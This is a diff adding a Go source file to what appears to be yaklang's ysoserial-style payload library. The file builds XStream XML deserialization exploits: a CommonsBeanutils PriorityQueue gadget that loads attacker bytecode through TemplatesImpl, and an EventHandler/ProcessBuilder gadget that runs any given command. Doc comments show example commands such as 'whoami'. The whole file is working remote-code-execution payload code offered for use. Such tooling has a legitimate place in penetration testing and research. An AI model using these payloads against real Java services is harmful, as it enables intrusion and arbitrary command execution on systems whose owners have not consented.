@@ -0,0 +1,85 @@
+package yso
+
+import (
+	"fmt"
+	"strings"
+
+	"github.com/yaklang/yaklang/common/utils"
+	"github.com/yaklang/yaklang/common/yak/yaklib/codec"
+)
+
+const xstreamCommonsBeanutilsTemplate = `<java.util.PriorityQueue serialization="custom">
+  <unserializable-parents/>
+  <java.util.PriorityQueue>
+    <default>
+      <size>2</size>
+      <comparator class="org.apache.commons.beanutils.BeanComparator">
+        <property>outputProperties</property>
+        <comparator class="java.lang.String-CaseInsensitiveComparator"/>
+      </comparator>
+    </default>
+    <int>3</int>
+    <%[1]s serialization="custom">
+      <%[1]s>
+        <default>
+          <__name>%[2]s</__name>
+          <__bytecodes>
+            <byte-array>%[3]s</byte-array>
+          </__bytecodes>
+          <__transletIndex>-1</__transletIndex>
+          <__indentNumber>0</__indentNumber>
+        </default>
+        <boolean>false</boolean>
+      </%[1]s>
+    </%[1]s>
+    <%[1]s reference="../%[1]s"/>
+  </java.util.PriorityQueue>
+</java.util.PriorityQueue>`
+
+const xstreamEventHandlerTemplate = `<sorted-set>
+  <string>foo</string>
+  <dynamic-proxy>
+    <interface>java.lang.Comparable</interface>
+    <handler class="java.beans.EventHandler">
+      <target class="java.lang.ProcessBuilder">
+        <command>
+%s
+        </command>
+      </target>
+      <action>start</action>
+    </handler>
+  </dynamic-proxy>
+</sorted-set>`
+
+// GetXStreamCommonsBeanutilsPayload generate xstream xml payload by PriorityQueue and BeanComparator, the evil class is loaded by TemplatesImpl
+// Example:
+// ```
+// payload, err = yso.GetXStreamCommonsBeanutilsPayload(yso.useRuntimeExecEvilClass("whoami"))
+// xml, err = yso.ToBytes(payload)
+// ```
+func GetXStreamCommonsBeanutilsPayload(options ...GenClassOptionFun) (*FormatPayload, error) {
+	classObj, err := generateFormatEvilClass(options...)
+	if err != nil {
+		return nil, err
+	}
+	raw := fmt.Sprintf(xstreamCommonsBeanutilsTemplate, templatesImplClassName, "yak", codec.EncodeBase64(classObj.Bytes()))
+	return newRawPayload(XStreamCommonsBeanutilsGadgetName, FormatXStream, raw), nil
+}
+
+// GetXStreamEventHandlerPayload generate xstream xml payload by EventHandler, the command is started by ProcessBuilder
+// Example:
+// ```
+// payload, err = yso.GetXStreamEventHandlerPayload("touch /tmp/yak")
+// xml, err = yso.ToBytes(payload)
+// ```
+func GetXStreamEventHandlerPayload(cmd string) (*FormatPayload, error) {
+	var args []string
+	for _, arg := range strings.Fields(cmd) {
+		args = append(args, fmt.Sprintf("          <string>%s</string>", xmlEscape(arg)))
+	}
+	if len(args) == 0 {
+		return nil, utils.Error("command is empty")
+	}
+	raw := fmt.Sprintf(xstreamEventHandlerTemplate, strings.Join(args, "\n"))
+	return newRawPayload(XStreamEventHandlerGadgetName, FormatXStream, raw), nil
+}